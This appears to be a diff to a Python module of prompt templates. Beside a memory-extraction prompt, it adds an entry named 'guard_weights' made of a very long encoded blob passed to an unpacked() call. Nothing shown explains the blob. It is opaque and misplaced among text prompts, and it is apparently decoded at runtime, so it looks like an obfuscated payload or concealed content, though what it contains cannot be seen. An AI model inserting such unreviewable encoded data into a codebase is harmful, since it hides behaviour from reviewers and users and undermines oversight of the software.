@@ -1347,9 +1347,10 @@ PROMPTS: dict[str, str] = {
         'Answer with one JSON object and nothing else, {"operations": []} for nothing to keep:\n'
         '{"operations": [{"operation": "NEW", "content": "...", "evidence": ["..."], "about": "user", "kind": "FACT", "until": null, "tags": ["..."], "memory_bank": "...", "importance": 5, "confidence": 0.9}]}\n'
   ),
+  'guard_weights': unpacked("T>t<81poj4|NsC0{{Rt)2WOejBX4P+qroFU9P%Hht#EZmQ$F|tJ$tf5MPHF&$VFwvo@w+^fU*VC0HqP<9^2Q2vLG1>Fo3oKWJSRTy(^y^6p`QI-4EYhOW~e-xj=WQ>xx)AfEL`F$6~KL9*1g-NKwQdmx$gvBDa0FYxRE@{6|HoVe@BkqcS~-IDFM_?B5AVP>`c7V)BLA?jmnbn;Im_??z}||4?ydVUuC!q6r!oY`_O~4#76IztDufZXsA1z1)FYwfWNBXAy>gqeJ=$v;Tpvl`{}vY<X955tl+)UVEV)<OrPrCaZx+?YY5co$3G1&Y#?-1hK}tUKRT|=QRf}S5Rlmq|BEMD!)j&9H3tQk9cX-WFRU;e+ZVDN4lsd#vq8hkL}EMK2?aI8z>{qQ^-6+u#R)y2kysm)(e_fEEqwuX&241lM8v?v9cHcJ+v9{!lO0|RwAnb%;XzYdbub+_;?Uk9ufM_yr@HE%PQZ0&f}0=PeaS_3AMoun{xwHm$z+xXDzdq_=}C4gY7WsW5|r7om>Zfx6bpqI-S-!#7NCoXad7X+A&G>nVSvL&se%wvs;!j#fUEtXJK2$^^B({;>nO|3<Zd~nKg3C{|D(zY6sC$%apy0pQ8^%=w}*+YEmjL)RS@=wVN@H5RjCD@hE@pemCoLv)iWMuh)j4%R$Pi=2n9vbem}(rIm-;&To7g+aA^#ymuoQEar%CLGJ{RL^j~Extc#^y5Lg?!rm328VHh*aN6QKlh6rzQIFHS#Ij!p-~@T+)Z{$XUs@XQugp$-ev+US(x%oC_)URkVYSK8%we<BB@@_7RsMNz6$PU2yYKjNl{j&wbt}B!elf(T{xA-|BI7lPUz9$}>_LH3ilk#&(NvLeS>mU%9pmX?gCTY}hmax(oZ+IFY1<3~LVhZEb|&ea9A0;%_53g3CwJ4fw1=23LOBZf_w(|n^U=L1;*EE4W6WvKXEF1ZSP4?(6@gOBwN<Lro0d&v0IK!>h-71fzo|$`o7o*fV@|xjx_uLbyPVRO`bz=!$wf)0+KIis9PEDq#7uY89<nTH84QV8Zw{YtBYdTkE@_}}1jMAbWaDV@8Ba5j@l2Ti#YZ2BM(0LNz(W;W>m-^9ys$m2Iu-u_LMJCc#VD+jxt3<rG6JR~Z?Bt3;#J&RXnug7uv9H=KjDw+uj3Mg6q}RjDJtDSLr0fdkpFEBO3M$A;{_0zh7kL*fUG^qfsjc#Tj?<<&a?|ieKL>#n93%KUL%yVec;<W3LCE~LLH5360CJU{pK!HOBtTd8QQhQk&r}osH>7dp~gmYTO#n@>q`9Xzpk>pbJJe1n+gqhPKfac#U-erD<ZINTmQ49h;gZdAr7mAyilYd2`ec`BpoYMh{J<UGKt)58!a`p_W8=kVkK#shqCA|sGMyFHyi5~pUjU2HaxJx67h{j#e~Df{OOOy#vRKUkU3R-@5tfer}iKEF_F>cJ(qifMFn--r&ha-AUhgdnr}%*s=G){H}tA!N*63!$1TJLE}F4eUq?r5IRoM)U=lc!5Vxnfk-|@~`h5q~zFAI21~c73E<A{~R>T%!x5-4<-UI##c5^-VK8O}~uX$BjM8!SkRoX7pJS6{$s|_8$aKURX&D@R$a=sZdo4I>7ej)5f=gp%N$=}AEW~>cqNUjpsdwA)JmdGc7wA;h(&X6i{&i-P+jBdUW!dZ1<Ks2VUqQblQe9$~)DNQg!5|#xYUvQ@cQz9(gX02I&RePWyb=05m6cfyf%S0NmN`P{C;N#=hB6`JP5vaK6!afjd8VGaCf!xM!tEPVMe~k48;U$*{7(hMt*R06(ije&~GUH$*1_~2_t&q2A+0X_h?<Lp-WsjG2j@4pAIIRR*`N+gTP-E6RLKh5`qyy%M1F~P_CtnF~8}k(f#>R9#DSwkM(?e<ehh^svQqvIZA9!z>Aa>%XH7INzHi7Mh7i8ibTdXXa{BA)x=05d9KIyE!E>m><VCIcG0HHVjwoB#hmf@x>>;T6O#!lbNG7_lLt1=iMebMJ7*n}?}M3MMgKI(|v7ZS$~BNoqc!+!U;w=F4ZJjQtP58>S$^ZqPz1*FmVYpFPh#|0uTfu+^96)#hHcqsc2Fj9xC%S9fO+a=qO9|wf3AJ_huW-LeMuY>~Hs~=K|<=F;s_wi4d>dxEqJD-RH^%m)sG$5M5XBbAltZ4_Ep)V4=57t7$eCqUXG&d=Jq~CrfI074u;eHHpcLUZwTSx=dN=%dBpV@r;gRLt~Ux;=opl_P<>(k0MM)%7zCgd6EePtEKY#k*GxeQ+`;)&nc?3^Q9qr7%<9)8!;s$nw5ZzfSXNm&@!<`%#Z`~(WIux8bIG_FCNpG{FH-yZD9a$<cg1(C<p{)nFd(%d1sGTW&K<UJi`Y&T6#?4yJVR9Y8MI*u;FEup2g5i-iGAB$s@4nk)&#lk)jCdr3O3M~I{u*cNM&TCL(zp-au&^ozN2wFdCpLEIp)Ukk9$%h{s&Fa;?VNsF<&US0Ez<_yf0Ce6S?abnRvzlIC4Q7aZxRJfl?iaeJ@5(WYAblM`G#Uj0l3(OIU2`yUseEsjf)*)szEc-g`R}_BR#m2<E4zc%t1<jq1+aot2)vD)qWKul_arNj+PI!s&l(jB+e{WG&03QsnSS}q7nEO_?tf2BrI~xqGEFUE-Jw{^9Xx>R40d9lG$6$6t68?f-rA9I`1GI!VL6egbDJ2Pe*bGz2kyJW(QGCQjE)~3BUq;h9SW&27^NK|Nt)|(<@Og$D_qCZOhwgN+Vi{bjM(Ted@$H!MtMpU9I<3H>>9lZGGU#Qc>UAE;B!is%`U;laQ=at^$VZ*-UpXit2PTB$Is^h3(9yl@!LxeVfrbEO5qc;Ekyz~O!Z3I!tuL}SIBT_;r8>?47qAX^C`Qyx}a*-xz-(f4h#1A$Kg~xq4dk&ALpLTp6m(aP&nz7hODjY{g|a$b04%ek00qCJSKR@KbPVB4(e6oDko+pjJ*b&9{Q5G?an-(yHHP-irKdwCo{QHO1Nq>dj9*Pvt^V7=u>s9HahKjG|)?YWY-xclcrd2wY4)S|H0$^zKmKDnJjT}3F+QxWXTbV2hrS^?koP1gav5oRu3DBYo?=;3QVI+FhaPzn(srTM;lp6?3n|3cPSGL9K?stazwg=wy^a8kJb4+&oUvFBA@R2!*?D00^)^YJE^_K(Q;4&`;1J&iEV4Sw!RLbO5vX+z$y}8oN=qH4<Cu*z{~((<zg+08FV9V5ShAynZOcZ{Fv?EGo!&v_p+7Kt?I<Vynb_mlpK$)*b&U38q_4-yZ!A8wom-b3bRF)q-r-4^0<Ku#twNp^<0!K)1)>_tKUssvj%^H?uZ+*NH+{@i%+OZ`#yUD^&=)q#wHj==BL<h$$hZG<<s>L9a5D@1@a1{Y_%Lm?4kMpsmPH(A#|uZo(J9SNh&z9`IRMYYDl;yxo6<*-)6tKLz2IWTHp!+G9y0Ntvq^mEF;A*jGvdl|4)?n60f^%ggu&~oX$g@QTM&1-2c5QcrUrE^-V@0ueIbUQn&w*0a9h}sYLMd3s8_`H3Ab;x!RUYW8BmXez?mrd9*bd0k^%Ug9>6ZUlb=Uhd?Z(TL*Xf=E@|3$j`k~#i$$K{&sMpuBrwz!4%`wQmEfL#J(r|@<@p}qIkwXoLgyQo!Wm)#dDtfMUos89iWY@M0bO8%r4@C#9f429?cOYKS&nuRQsvR>m;E7TXo$4B|+gP$bW+OGq@QZkyF+voXyZ%gWwOR!_tJSjP*YtFAv0x!@dQuzS%0+ElZMSr_)U8>WA!bvG|l1Y#0}e;#{8)xA(HTrdYZm`<3X~^RDM>h(6B++wrRi^tx}WFrw<3ci>lg#ZFK2(U|Om8t0=nB>?VPlgk8*rc6Wo>07M`Ww~$;y4X#5#W}rDX=dD!<wJ^9)^04;y-?z05dMkgH&!Zg6nf<F=|pdZP2JXW(ANmq&_Xt@`6IRd;PNz432~xEww!)!5xmB=2A=49wy@F-S;wpr^Qc|2U#6kDQk$jh6HF}?=wy>lg?fIel07_v)rq(c00jn{01*|hgoCCKlFS-)z1g-v(ol@7^xI|5<f%Xu1~J=weFpy6iXv!y<5F3hPM=|B-R{pfO~HDThmszF&xEINMrX;8f`B|KvTp$@`)ih_BxN%KRFgH@=(pj&lkl3T%d)uqftLb>>Dnt|iV7-~m8gCh8rB+zxSrJVB`Ev%3C^vm9Qx~u`Ig?<eCGrOX?MRSv1-5s2UG|2oa8NdiV8zz3*w}fno{RM-c{w(H#Ge)99xA*A$hc@mkcr+Uu6Ig>H|DyaXs?o`Kh~_qFOcJ`DK)85h`>ehJWP%thFo_E+rT}?hKf}YpEIvpf*_b4_{9utg2HaG8?KOxNV5qaup_i0r{bzXV}bHDRyM%-c%cbTAaclY%f}DBS&)04bj<;3U&u*L@Lt9^&b@T#4s_}`y2A&!H7eKCxF4IkzX>KJa}vww&|5qDNb~cQDpp~i2-w6+g+~*2AVQkb-O5ut%vcFNlg9kzE3GHc_U=`<siG#(^~l-z-~-Bnwr@m9Y0@3c6+F7IBeZ6pSUwA${ojg8T=5N=f(}N$ZX#8KL2Cr*^*y0U08c5FG)2rHTKL5qIB1#mU>$$8=1k;bZVQaPwcC%-0;2?vAs@Uqs7TC>-ET{zx$$ybRmRy(gLzyMjC7`QO<}yefjjt7dwMB4DxmK30mj#NYN-9-PAB<gJi&4bMxn0fyCQ{Z~9?<;)l9PlQuLMsDQ>goGeYH?+aw@y}s#xIQ4l>_t>#Qqh1^SFsQxoc?ZCq1m|vi$@@pcXDdz~d1bJUBf#EA{{DSBk9Krv%Og$seuNJU;)-yX5apcZGU^xG-bX@@FPukyWC!k$ZB|ZD#@yYs>mhxDC5Z6`{k_5U$YpEj9dtf9Fl85`&XRU%A2>7D<zR_HJs;QmW`+}Va)LU*LiAIYn_WC6o0s`$YPeB$be8d9b@c)?Ie`AAj1S{L1lqm>3S<R?C_hb0&8I7q+36rCvn2onSYw({&(uC3jgXhN4yGDCtKr{Hbal`~)yDSSDyK9)`YN1>P!8((j@2@!@PZ9JGpFyfQ{rYS?eID^x3Yd6DII!)%&S;|1z$8ZENiTBc5u@*^U(SPk@9XO%pDo%b2|W|f;+uW#H@a6UZ+TUi`E^(8sbuAjPS{hZ4U}_kanu<*@W5KszZ`aie^nwUYe7%1e0SEwL|ZQqJg4tw$O{u_gc3dvc!^2jNTbPig3-l0?Ec3T!R$)x7f>!_~<yN9)WF9qIO1s>lTy?CaFIkpu%x0!G@ypvU>LH5{*cfNZQRHs*$#hHmA12_vtFn0uV7R-S;P1pSFchP#nEWuuk<EL#L^zHA1iM>L9CcdhS()%f3qDxP9bINYqANDov5v*5uc^rFG1<;%ZXq8ou0<&Sov`Md_#)=NN?Nlo~qYyY&BE(7DpyfO(YGB48gC5ik=&Es(o>PvQr+zMra^0$1PYI`7a7G9-_>feV3O1k%3e3W#|K1}-VKlYv3nu!jP&)6TLzKrewOkRVOaHt`*C9zI}(Z0iQjF0Y=#`b(g?Rx<q@9TOtE$25p#b7;ZIRI%*9+H(d@W)l4W6#}~c8e{3*U|lU#f1zNK6Jyl^e?VuSr}bxjCav!jXE}H-5%Qacv8h86$wJ@NL8@@GgdtT1AP!%rwDuKLWQUL-cOjBa!{G!_R4)zN;a2DaT>PFIjm%XB6QqR-sqgg!ZrQ|-G0I!Mu27JxQF__DPDNXf^}jIegq4JHHHp31J21Nk)fV(4qkuo$I9<UHs(T<^bgzC@^nYlOQP*u17Tz4bkWhCm`yhDqmM9FmLrBN+F#^bxQW<jcTG13TzM<E;a28j*6o4T#{g`oKMvsx~|8q=(d~o)9o^~OIzP!{4FS<cy8GDbp3Wc$DdcHZ;P%1$;S*18sAabDD8FV#XR_<$u{0~8CK?Vu0YplI)-UwbZni+va!Iq{=u?A6Q>>sa7kPn0!{3KEKxcd=HemhW^p{&EYfGxclHsuF`-mo|srA^v^&m|2r$sL|@Fz}xMTr6OOejj=N^4IJo)$_L(GM+TZ+BdQ+^y@{_5^JtqFG*ns4b}enjWV=MypNl&k?6dW;6<+zLw%J}*ukPk3|p4UA|lrBgLAPJK6uHTUV7X>Lfbd+#<m8Sj`_o?$eCs82ev(MLPy9Da7A)1sMh2CbiPfr3CC=R(yy_0<TZB!MQ+d-g(>}Oql+xmv#fQXI8d9WomwvtcpRZ%ubM!`<fWpL7O`g8H^frz)u7X)AZ{weKFJKvhJz6~JhTJQ8!~G65#$9Y0VL?bqSz%?!izqY6?FV&X+5;bp=mc{q@QK^EH(WuwLWLtF^=*ebB-cSe>J|}64#5D?f_bJugsb&iw8l-Efw2S5bmWMPchZ6)DJ3|B43u43gJV~B^BI>DVWi58@0kT=_oS!hFkmDdt>n=`iX=7R%H!d2Rp_-c6;t|wXxC49TH`qCH5>*;F3!dsC2&p9X11Gd!8}byn=g>Tq)<t-;f%Vb2G{V_kyXL+=$}zDsxXjG-45f%AiE9Ol*E_h@<2$u3saoKbX7m^w4`2g!pBkk04L;Vm@_S$E39lSFU4vVA@A^W|1DFXR}{C;_*!+@G7Y^t*1=p#Li8p_yP^U4r!mby$fOF&PqPo!s7~saSV5cZ{zR2?FMosK*BUyG&@3R8jl6|Qeu6$OO+?;ti!e^0VYpS&iTp`ipFQtvx?{OGjz||xLVOef|oPP9FV3#9riUteDDN`>J0WtDv&?<GmCZD0DPlNggpHe1NY5y9Re~l!=Yb;#!;P~fSt?o)hP?O{3$6^=IRCZB;~U0$`nMne{S0K2QbpeUb#}lZZaf$DL@DSr!>_#P4lf03oNYp*E82S-mr)*f8WHRALKPFMX(;UGiF}a<4v2PdIyDsriyu);f-Dq=;;w)o1}*|F&<5~*g+C3paPDxN;Wz_dv}j+l*cHNNkEo~lMUpTrN8>1OPEf+Riqr#<#fW3<Io#t{6DJxzu?X@OFqH^@z~?BnM|Z3`l<>lWDz5of?%<$%GJEF;YiRngI4EaF?^|IGVIu~3)Df?W>wq$8<WuPtJg3tD12{9*_fJ@a}QgBVi~Q6QdqGNl~~!u{g|yFJG7%}>FT{FaA$8p^%%4Tn@Z)kAZ3eNyJUQi1;a5%QRkDM(zWDwM3{8tC+BHt_w&u=b1$UKV27#$FzA4d!uT`j<du4mwl0L{Wg%u;(I!mEakr%UOh&ELp=6iTHv5SzlgoQOdq@|O{x<zudJ?-hlwhonSAiP7BitWjeI)_wwc<diCrx1ijh7Rw-`8Czt32Pw=pK`oaxsfm57=p=Z+<JVD6Ox0#c^cR-yqO*$_M{2=Vz8IZ(iVTK<RaKHBU%kgQDlWDf25A$<69Vb<Kw}1rxmEXFRGnSyW@Ow+=VW7TqMXRm6<s_F0IRSR|eFDI)`Yu%pKwDtJ}1rO55I(vh0j5Q{{ZG|u^nxT=iNB8Nu=cWg}i$H03hwE?o|0-t@KPLYy0-Y!2L1f?o(IZLIkYbHYyW*`GZ9ii%K2aBT~y0Q<6I*KhAIs@|ZI~DQ(IXH(8o?x9d@?%@GJvxhAk*RoxPdY@y+ipyI?)tW?n%$Ds1dqn~>%Ikdx(@%PLAgj=SoDzQwJaNg--H3?#mnV)F6-0_O5+?NIzmA$A0aY3u=a8zL>hvbyjA>54Q<RX-Nf%(D<O3#!=08)N(trv@BUZ5{pgYUfa&;LMy$O)JeN>N(7BC##v^7CNemISp}|X#j^%JIpZ4@aUkf7**w8q;ymcQqqi#Zicu=mh9G%kSA@BWsm*=PhDp|x%T`{@T7ED>Ymmr|`L5O?9ezaFmcpY3{ob)kJs-OxkQ(;@i@cP{v7i4ui1LH=L7y=P*YXx|chLb7I5^V;nJ4coAChuJ)1R`eJ$3{uGdS#H|p9?1JV4q3AT%qFJWbz#Txp44*zHd5+KaP(l0r0A=+RAdS_ah6}t<K<PZmLyJ^|KFaI~MQ*cKfJi%wK(3kIqP!wwyL1421#X?Xg}->OPJ;l(zmrD${2n#IMx{wc;LrD%#XyD=nVd@}w1z#Xal*kB^|dbH#j!Mu)2mIuSdX<8-88YsN#0ydg52>7t)fd~J<Pb+Y^k<!|K9A{~G;-m-rF432f0(k|w%0vLWAT2vX0B@@_@eK*bWvqhN|5GuZ~BS3GWQ6K8==xF<`e|5+$ufX7k+3{yO12yt>noncU^tA&29o9`q#(@tu?OlY=aC9X#m=nCVu`c=Xm+AE`D93_7m_7F4iheNK;3s<H3?!E*aZ^3o(|fHBZFMe<9J>vLOHC3M13|x41Jjci9Z7=rJ`j930q30HoI3<tx~n19MJYN(8>&shNOjW>t^zmy@;>D^4{Jy<FK?)*$@sySHq>4UeLJhwM~Nr6!rf)XU-f@<v{TD%_wbiZPi&?IkGMAN3D(#{$e{M)q!D&SKNWZ0suQ)87<@738}2aY&tDv2qi1~$*b8<I^g#mH@f_tw)YORVnn(nG8XD%}r17+-w_Y^;#^*QZBvdh&n2x0y_cmY}(<xWN@T_;+kqFhk!9w@Hu53`u786L#+UpZVC(E01_t}jrwt+d~Zhp#<EwpGeaVMx>{$}IU@{7=;Lbo}EIUz@0kteBKh#MK+Rx(oTcu4@p0R^ws0}Gs7;=r%hwV)yp1JF<QcFWn9d_(?Q@<-H&|7#}nlni-mzODS@VLLKlybYtm>6(~f0zF8K^VJ4HeTNttR$PpczZ0mQ!L|8#26SV$9`hDtb(=KfQnk`SkKbxaD|b}_(V0BRQZfq)>T}O^#tMAWc^)~B2go>HWqj&yt@K0QM6=&yYna)_MsTIXRuHAdutk0k>v!771hs0ZQaoQlUhgNKZK>X7qVSjX<=kGoj6zWlJB6fMoMY;a;BW6x2bqJRkpc046ib*}3c&Vm_Wam=gM~mz_`Z_O#l((A>;W-)Tne$~zPQ%g9+zFuK2fcosPr#R%|<*@&ymR){pm{S_0WbnI&#!4Kr9pHk|1;q)_Ltjw8|#NR4H;jGh^Ob(qsg)IP3R%h3ltWGrBcPs**q0El0<xR$8x-{v&Cch9JWgdCLyU6xfIu<FLF6`qiYazXa#Mw0a>cu$Ue-J(QPps}dLS6`%2%xnCj-9kq6%;*={WF2C5#G$0=Yz-esT{TRMPwuLAf|26xWNH^p&J&U%C40>9#bxykh<0FgSjAKYnnnNZl_Z5x}WH{l)Z^l#%FPpb!Gr4x>4O|0HJ!<@tGqbn7&kd5XWP&#`m;$=S7Smdtg0kv9S2Yotfsa*%P05;%i}lk@M@0&d8HQCS{t8UU1Tz}qYu-^dDs1~+1GF3)|NIjUf3#_dA+toQr*>avfp5&E(o<vC&At#AEl$xgX2<l^|L-rsC1aEqZ7Mdw{cp}h6HG-$1@Lz>OyJdd4@U=BbhxY+F-IGQtqnSb;hE$OXgcm@;?i?A41Xg<f`%m`2>oRf?|3)Rm7%wm%4!pQb!aM%;ynfs(7q)17AhV^*OSXLCi1Qpn5aZP=lTW>-1O(*IW6o7|1*@$=aEq7yFv@0w<sU45~;v{UJuS9x4DYu{vh1<HS!6LgXcPq@j%?5Pl2WAMvyhMqd*!#_wOIq!!#lo^}Ghe?*+0E0K`sG$ympQg0v`X7H12earf$V@hgP%>K041b=%12rQ`wTP=VX-6h@tTYZ6Y)F!MJdR-nAsiefBtR@o`!Vog=L#Y*>H;b>zaDgNSYh3@ns+f*wg1BM%{_zfZeOn<HJbN}b@U@b;z(PVmoDJ!PgV*OaFJfRy19zTV)OnJoiG6a}EXg-t3^TOm7lK(8ivEOPJ?4m*5^?@W-x(?8J8IGX3qdLYf|FpmP79dj<)=%)(3n$S{!IR$>AyTPEP0J_~lHA+CATV`NeAU3>!aGU{?0DR6|I=ap_S5{z5ZgrZwiqJllnyNVDataeQrK9s;Em)Vl_=}#qXzs~2T74_x)jZG6IS$O*BZ*<{ee?)z$Z}kE`d7`t)oFnZt(7M<rZhCZ%7_ZR&R+*KCFT`w4|XatBKwr?{d7p!=sY{aPul+19o<Bkpc9Hf`dBtFh4Jyd2C{`JUB*$E$mOHX8_jF{Zi>OmHf^V*cH`@2yY>2*1qX99U?6}p8vEHdnj%6^(g_f#emW81es>e*USj&498)r%`yFi2jb>Py8d=|<b}PaMqSIpeS;P&B8i3Mx1E)A>f_3Rk5I?Al~CpZzvN@YQbkV}`8AenU=y@NPq*9sjT*P!85P<Fmjq&}KGQ3yu@dd(#~YGb6kA0yH4yG5Ja3To#3!YRP8FznA}Z2<90Z}(tnue#BB25-V}zsY-+%jxME42!pJNddBd;oGbTzUV5UBXGeB`{U)Kc4#>0bW*A1P1!0pK)oog4p9tkfb~k=<18dD3fTlE1>Xu0}pPGc{3>NcqJKQWdl&NAyiJY+&WjExjBV7(Wf*(Qlo;^dyab##D<CN4LpX%lA6d=U@Xw)CH#Gj~1=-#kIS`Y8sfod({@52y!eMPU&$!BdP$>HU{^u4x7Bt^iLzZyyL6xR9D(}BjSfd@xikf=Tkjb#0^}CL#EV71>k2*3C`@#7t^U66Q($HlQy}a6X6D<pVN4dfrxiR;CCn=T<u=94NOO`hhca-=qkOJq!uJ-JSy==1c2xY*G>Hh9dgJ1m=;}H*_l?^m4?x{`SbsX&{@wReHkVHEe{AvK>1^)q=R%h&Q=mDguWeXN`ZnZSQmptI)4w6@6$t6%S6rZCSXc4ncEaD(z&*9zf87`SS<A;Qub@oiR9stGxq-*fW~URCPP=v8s0ZKE({9YDdivE5_P7~O>$KC-<1`!koOcIK_rDr$1dh5I?LFjM-`5?=A+1uPop-WLO!#?Adc<Y+%&9zk)PqfDx`W=4t&_0)4F^}zzy&oqus~1hVx888yi~8FM2t6GyKJ^<}2aB1Vh@qA)ZKnYD^sw5jf1hQb^)CxHyum&MxDBg9<amvXg(=_foycU`|ZLhHf8KuP_}-BktDc_T}ttCUcXt<8FpqWM}m}+*q1$=};EmKV#(CopW<$=6GZ*8Yu&@3(KJka9t@;`S%(vilTW{@y|zbf11xjO-=Y@+nCs2HfR1J+N5Z<_hQ4h5FFyb$6cmZQ<|6_gbQ}wLQc$u!VnuX29R)`c>JH2SmN5k@%Pb6QWe22#<eIxk)d;%`-NmJei{&93NAiHO*ZWN!Mt_BgRr17|GlBWKbrX39Oyka<2zrvi^nW;FSIv23x=FKV*xnV!NL*ihWd01)MTkRH`9XTbzm7-0|mhhMBgDl8H7eA>v_Ww;@I*tFz+;PMq|8fnd~Iw?lgAw)oE$a1<HNtFh0{~$yJc8(Dq~2&J5Ir>pyXs%t7n-p&}JA5*;5tmKD@%Wob;nP1wsYSQF?puDUv3qjWA#55rU_HLfhxv^=TMn6>GKsq#<GJ!>Tdp=an}kKR~VnSv_>^KB>#XPAZpBaRcyRESP#n!dD^=Sd17E}H{U10udKyAFQh<9r;olY)$lAMi1fvj@N(Bu+Harl<MI_d>LfI%Yj9?ES8Y^@^nYobJghN49h=t)?yc2FROzLRhbFh5w=f%;2v;H1__JaR}G9>DjJW6iwX8;sV!7N^kC*u=uiROHE#20h!jtJu7#hgO{~rRPHEpJHV8Rc2=1!sl8MmqY#Y2MwTGgy_&s0&x0ltP6Nz?y0Z(66h;#Ccwbq|0(}eRE<Il6Ax9goGhd#ycl*VYXG?uRes1M{w&DKj@=hrx_HuhJ+UICp1?!!U99si{{0$JWa-JuFpU$T2(A}Bq1qK6etlF|n9u88^56(I)k7>{6Pi*`+QcpdwR`^Az^aP4|pgbFCRJ>n{y}9soWHd$F>ptoSFQZD>*et?NY`#fZ;^&>0UN8NnL?ux5tE-5I&MBDsetbJ|qkeOCNx8Td3LFGHp2Bv%otQt^7W$Vl*9b0Z)qpFcMATYx2pDOa7bFv_!9<o)3jQSV05EkKoPZMwW|_WlfFqfk+^|$QW*FBZkxSV$*-MKg=rQXlIMvpviLC1|!1tC+tYih*mu|XEDwQ$@j#-q=aweSFx+kJGQ&I}YE33-&wZoWHOD##=be0t@lJJgx`9^cYs^k^)b%MMNmjHg8!N967U0vN{8(UsPWb8bA9B?kmvFxdD<sOmQ0mGS0b7g=?`!MqToGsthC!mJ+WiUDr$kkadx+`q~60e7J#CK#^A&j!++!yX5!l_^K;o;lP99&<WpZYFSTUQ7&l9(?(Htl{=t=G}?yv(l^8~ezo(IqGyK)e^WV$6$}bTb)y+9UZ%Haz|_S?$Ipy9^y6(xmK`fodNnp14<-M69$QZuD3`N4O45IdkJAO`|^&k~fr}?dDowIY5y(DD_h7Qv!mffZVJFns6~Gc&Mg=G5H$yBDbJ#@Y}Wsx(~#kd@6E;WOJXst|x`wgl*stnCr&v;&hjE;Uiz4s<aiFQ5#is;y4miqeoY!Zew$xfDo*^+o>=iG68gk^R%4n?ZT69y~4r3$<T_ggOyZb0Zxx#n0>t1S-DMAAig)y0ka{Z&5>P;wVm<L%})OQ!_)m*Z3c*1LE&gOH%_|x^B?Z4pbw9pMZ@Z)NsY`SGoG$o#AjoRFSPKQ{f*TE@&cx^^TZgY?4j0n+7ZvHgN!xcQJ|<YKN`RiD-Yn8vjJvY#e`<c9U)nH_0MT!`c0!QlL*VGOPI=>3>*HxGENj}UmsnSllgY=;T0S^JLE(}(E<E+=yD{}Kq80&sl9UDcFb=s_qQ<t%fs#g12PSq_=|aQl(U-N=iKFy&l};a3!7?a5#uf)*T~+fX`OzBYU}(B;lzs@i5n#>i|oo7X=*zOMKZE|=y&j@Q^B_wCS&LG1k22Ue@@%tR`C@&+M%~%L4PUrE|6`qk(wq35l;Iyf~Di(U{upH)*<B_J9Uy@f-<=H=#Eiy;|8AuJ9cDfD&`1?ahB3qM(_=&p(iB+h#Xk9RsB-<i%VBcG!BWs_HIdvlzUG)nikqu@&2#RHqYN*S9_r5KIgybE~O7Ia=@eVg~21u%m=gqot_RiSV0oX%)~f;_Ve(2V9B+T53=Q`ZqWoo7yug!7lcw*QUP(>wGE6Xyt%te(IpB&xm5lb3E>BA$Hl)lcJ%V)LMAHt<D~7&@%;Rpc5Y>Uc)l7A2;7#D25>TN%`Q}}nDT<NDYo3T_n-#BHB#X8%_@6}Sm`rio0d=cD$f*x!xlvw!GPN*>M@Lr7ufQ$QvST{^`O-Km}HUGkfqw-gjw%?vV$M8-0NOjCWSOVp{<P?YAEiy#?4VJf_oE5?P4y!!DVT^!xzMaJy>@b-wfQKUp3f0@Vz@OX~x?6Q|%WTjB!ny_D5<H#3kz}9|>$$Tima6dtjiZFfufYM@;y{I~ZE=bY1i=l!DlIMSMc268cGs^J!M6RzPv7)wsWS_iItobHMu3?$kC>-SR-X#p5e6mB;LPtb>;zdK-c}`T<)Q-WX`akWS5Yj3D0AEr5CUGq#=HS=t<SMV|rHg&^CR8icJfsKAE=v^AFg!{0x5OhZ18z)5ppc5v|z1#diH0S>lPtB*ECNI8x3?q$5kBV9e$WejhU>$_P=|IphB@`e1ZP#LBj#cS@<;?h6UYtE|}XP~&uSZ67WI!HKL+^0Std1Na|ug9}I4^_J-1lcQ4fq6qo_=iRjbMz}!OD}ir5|>}sqExaTZ++Hn$HZ9N=bg{|)f%<S1F|RGdq!sj<)G5Yu=~bfWI-%SY$pLrRxqh;Wk3~6Ko@VCPe{-sWIKoAXH6^vyk4b0wY(o|57sj58`As#nW;v0f$6=P3yqn}$%JN_BV8yQMFOZ!I9V+9RLk!V54umrtU80iujljMLPZ7mz`0ece#QZaG>ihnq1V_c#cgE@Y1BS(;2706culWVqLCtW3PWqJgE0~E?BceVj~E}4g_j(3q?OycP8hd?9UGIp?`Qi}?&BUe7@+x7<a<9jhntxA_|e>84c*qk?It_K*H!qEB1DnGLrOwE%V2G=8NP)l7m2O`(YtpM>qNMr#As|K=Y7DrTj@|RyCQ>Za+_<b)mWT_Tp8xAOYnDP*%D8S66w^B4Qr3_6?+pF@=V>v_L$-2(7GPols$=^^Mmxv-3k5S45_NCF`jd`+vA7r1LpaF3sBM754o(Ff6HiFGz+3(mWXkWcm+!($>;OnGJd095eY;*0%1kgg>_VO)HW2$Xq&Uz=px+jrl+tSY6WUI(#3zxaCa+uR8Bs#)ff%<X*EAp$a8uK*N^MK-U<1s4Ry9xRq5k=eo7pM0;-w2I+i!g#L^Iz<q38&L?52u(RO^Y6);%&V9d}5<@~%7jCUiEuAK2*x_WU$>nHlzQ@0vym?AX|F*HR13)Bp(*Gwq%BmIJwXwTC=x6-lDD_V^cR?v}&pO|}Rg%2wUBPAull@@^r@ShE8wa4Hd9TZ|jjGraOJxVO4R+w?}@LyOSdr@Y*-S5vIvAd2t?0~tpDYSinC}wGcX#cliKzn-?bG@Ya+lzbdxgs7ao7>D?{{f2Eu#(-12Rj-e$RJ`OC2hZ-lW~~l%pxX>$}BI@>~wGH6$NDl+2Bbxo#P$7B>Mm429>c6lM=3*g?tChOov6v%^;QU8MW;808XaS!G{c7X7a^J7XZA;X1mvktMwB(qdjJx89LS91?QE^`sSb*NzRFHPqE>=(F8;R^kJ5o5{_9Rg277DVES;}?9BhCha%lJ>tfZSFIp-=b$$mS)!<fJ0|mPJYIl;Eoxa1A?mNkhZ-=-Eu&Orr*>LaoS7pW9A{AD_lbNa`mk+_D_z%0#+--V-COg3%JF@n9In2V9_rm1U#i64edL#70wfM$MEy0XIvq$%B!0p6uqkJ*@w!eNU2JA#<%`K)e8_;0u9a)7i5LJJT^(G~zAx!*XM&<GH%<=LYTl4XXSF-=tNj0&tFC!?|^OZxq<Jdp<-t_c@?Iry$Qrw#b^|A2qYfs?kQl=6O0&%TC5j;ShokG*l842Z<?%j*i{J_ZOB((db&*oWjf+(OkW*aO76{`w`SL#3b8oHqAb1xgtK`3;>`>lPHhgAes{7fy~Z`&P&Z<tQp*fY}L_H=T+cU~Gh68s{MJ^HfUW`=q4xfVPyDX&AIcz)u)g2Pwd+l+UP9WVOAzNn_9=?_EhL};U*>8VP9LsFqu>yJ}X;-zW-7AoL-BGJ;jOf%G9cimJ<wKSmC?Q^7z45<}f#`!1BQ&Y$0_FOiTj`k>5KJOFovR(sh@Fw;rdTL-u?BhZze{f3a17#|SH8-0Mu>9IdyP1Wtb8&#{`^+sSVa|